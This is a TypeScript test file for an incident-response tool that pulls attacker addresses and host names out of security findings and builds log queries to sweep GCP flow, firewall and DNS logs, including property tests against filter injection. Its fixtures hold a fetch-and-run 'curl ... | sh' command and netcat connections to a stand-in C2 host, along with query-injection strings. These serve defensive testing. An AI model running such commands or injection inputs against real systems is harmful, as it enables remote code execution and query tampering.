/**
 * The indicator sweep's filter: flows, firewall decisions and DNS queries naming exactly the
 * finding's public addresses and host names. Property: no indicator string widens it.
 */
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { defaultConfig } from '../../src/config';
import type { Finding } from '../../src/notification/schema';
import { planContextOf } from '../../src/plan/index';
import { evaluate } from '../../src/query/evaluator';
import { parseQuery } from '../../src/query/parser';
import { planIndicatorSweep, sweepIndicatorsOf } from '../../src/sweep/plan';
import { fixturesDir, sampleWorkload } from '../support/fixtures';

const detection = '2025-03-04T14:22:31.418Z';
const workload = sampleWorkload('gke-reverse-shell.json', 'gke');
const finding = (fields: Partial<Finding>): Finding => ({ name: 'f', eventTime: detection, ...fields }) as Finding;
const traffic = readFileSync(join(fixturesDir, 'identity', 'traffic.ndjson'), 'utf8')
  .trim()
  .split('\n')
  .map((line) => JSON.parse(line) as Record<string, any>);

describe('sweepIndicatorsOf', () => {
  it.each([
    ['the destination, public', { sourceProperties: { Reverse_Shell_Stdin_Redirection_Dst_Ip: '203.0.113.45' } }, ['203.0.113.45'], []],
    ['no private, link-local or metadata address', { indicator: { ipAddresses: ['10.0.0.1', '169.254.169.254', '127.0.0.1', '198.51.100.23'] } }, ['198.51.100.23'], []],
    ['host names, lower case, without the final dot, valid only', { indicator: { domains: ['C2.BadCDN.example.', 'metadata.google.internal', 'a" OR "', 'x'] } }, [], ['c2.badcdn.example']],
    ['addresses in the spelling the logs use', { indicator: { ipAddresses: ['2001:DB8:0:0::1', '::ffff:8.8.4.4', ' 198.51.100.23 '] } }, ['2001:db8::1', '8.8.4.4', '198.51.100.23'], []],
    ['no address as a host name', { indicator: { domains: ['1.2.3.4', 'c2.badcdn.example'] } }, [], ['c2.badcdn.example']],
    ['the command line', { processes: [{ args: ['sh', '-c', 'curl http://c2.badcdn.example/x | sh; nc 198.51.100.23 4444'] }] }, ['198.51.100.23'], ['c2.badcdn.example']],
  ])('%s', (_case, fields, ips, hosts) => {
    expect(sweepIndicatorsOf(finding(fields as Partial<Finding>))).toEqual({ ips, hosts });
  });

  it('lets the command line fill at most half the slots, after the destination', () => {
    const args = ['sh', '-c', Array.from({ length: 10 }, (_, i) => `nc 198.51.100.${i + 1} 80`).join('; ')];
    const { ips } = sweepIndicatorsOf(finding({ sourceProperties: { Reverse_Shell_Stdin_Redirection_Dst_Ip: '203.0.113.45' }, processes: [{ args }] } as Partial<Finding>));
    expect(ips).toEqual(['203.0.113.45', '198.51.100.1', '198.51.100.2', '198.51.100.3', '198.51.100.4']);
  });
});

describe('indicator_sweep', () => {
  const context = planContextOf(workload, detection, defaultConfig);

  it('is skipped, saying why, when the finding names nothing to sweep for', () => {
    expect(planIndicatorSweep({ ips: [], hosts: [] }, context, 'acme-payments-prod')).toMatchObject({ status: 'skipped', reason: expect.stringMatching(/no public address or host name/) });
  });

  it('selects the fixture flows, firewall decision and DNS query of the indicators, and no decoy', () => {
    const plan = planIndicatorSweep({ ips: ['203.0.113.45'], hosts: ['c2.badcdn.example'] }, context, 'acme-payments-prod');
    if (plan.status !== 'planned') throw new Error('expected a plan');
    expect(plan.followUp).toBe(true);
    expect(traffic.filter((entry) => evaluate(plan.expr, entry)).map((entry) => entry.insertId)).toEqual(['vpc-flow-out', 'vpc-flow-other-pod', 'vpc-flow-vm', 'fw-deny', 'dns-query']);
    // The same entries under another resource type are not read: the indexed resource.type narrows the scan.
    const elsewhere = traffic.map((entry) => ({ ...entry, resource: { type: 'gce_instance' } }));
    expect(elsewhere.filter((entry) => evaluate(plan.expr, entry))).toEqual([]);
    expect(plan.filter).toMatch(/^\(\(resource\.type="gce_subnetwork" AND .* OR \(resource\.type="dns_query" AND /);
  });

  const hostile = fc.oneof(
    fc.constantFrom('203.0.113.45', '203.0.113.4', '203.0.113.45" OR "', '*', 'c2.badcdn.example', 'badcdn.example', 'c2.badcdn.example.net', 'x") OR (1=1', ''),
    fc.string({ maxLength: 40 }),
    fc.ipV4(),
    fc.domain(),
  );

  it('never selects an entry that does not name a swept indicator, whatever the finding says', () => {
    let selected = 0;
    fc.assert(
      fc.property(fc.array(hostile, { maxLength: 4 }), fc.array(hostile, { maxLength: 4 }), (ips, domains) => {
        const indicators = sweepIndicatorsOf(finding({ indicator: { ipAddresses: ips, domains } } as Partial<Finding>));
        const plan = planIndicatorSweep(indicators, context, 'acme-payments-prod');
        if (plan.status !== 'planned') return;
        expect(parseQuery(plan.filter)).toEqual(plan.expr);
        // Traffic naming each hostile value and its near misses, on every log.
        const planted = [...ips, ...domains].flatMap((value, i) =>
          traffic.map((entry): Record<string, any> => ({
            ...entry,
            insertId: `p${i}-${String(entry.insertId)}`,
            jsonPayload: { ...entry.jsonPayload, connection: { ...entry.jsonPayload.connection, dest_ip: value }, queryName: `${value}.` },
          })),
        );
        for (const entry of [...traffic, ...planted]) {
          if (!evaluate(plan.expr, entry)) continue;
          selected++;
          const json = entry.jsonPayload;
          const named =
            [json.connection?.dest_ip, json.connection?.src_ip].some((ip) => indicators.ips.includes(String(ip).toLowerCase())) ||
            indicators.hosts.includes(
              String(json.queryName ?? '')
                .toLowerCase()
                .replace(/\.$/, ''),
            );
          expect(named).toBe(true);
          expect(String(entry.logName)).toMatch(/\/logs\/(compute\.googleapis\.com%2F(vpc_flows|firewall)|dns\.googleapis\.com%2Fdns_queries)$/);
        }
      }),
      { numRuns: 200 },
    );
    expect(selected).toBeGreaterThan(0);
  });
});
